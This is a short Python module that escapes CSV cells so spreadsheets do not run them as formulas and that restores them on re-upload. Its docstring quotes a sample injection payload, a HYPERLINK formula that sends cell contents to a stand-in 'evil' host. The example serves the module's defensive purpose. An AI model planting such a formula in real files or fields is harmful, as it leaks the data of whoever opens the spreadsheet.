"""Cells of the CSV files the planner writes (the inventory, the checklist), made safe to open in
a spreadsheet, and read back as they were.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as
a formula (a tab or a carriage return first hides one), and names come from users: a Tentacle
named ``=HYPERLINK("http://evil/?"&A1)`` would run in the spreadsheet of whoever opens the
download. Such a cell is written with a leading ``'``, which spreadsheets show as text.

The inventory is also uploaded again after editing, so the prefix must read back: a cell that is
``'`` followed by a dangerous start loses that one ``'``. To keep that exact, a value that itself
starts with apostrophes before a dangerous character gets one more (``'=x`` is written ``''=x``);
every other value is written and read as it is.
"""

from __future__ import annotations

import re

__all__ = ["formula_restored", "formula_safe"]

FORMULA_STARTS = "=+-@\t\r"
_NEEDS_PREFIX = re.compile(r"'*[=+\-@\t\r]")
_PREFIXED = re.compile(r"'+[=+\-@\t\r]")


def formula_safe(text: str) -> str:
    """`text` as a CSV cell no spreadsheet runs as a formula."""
    return "'" + text if _NEEDS_PREFIX.match(text) else text


def formula_restored(cell: str) -> str:
    """A cell written by `formula_safe` read back as the value it was written from."""
    return cell[1:] if _PREFIXED.match(cell) else cell
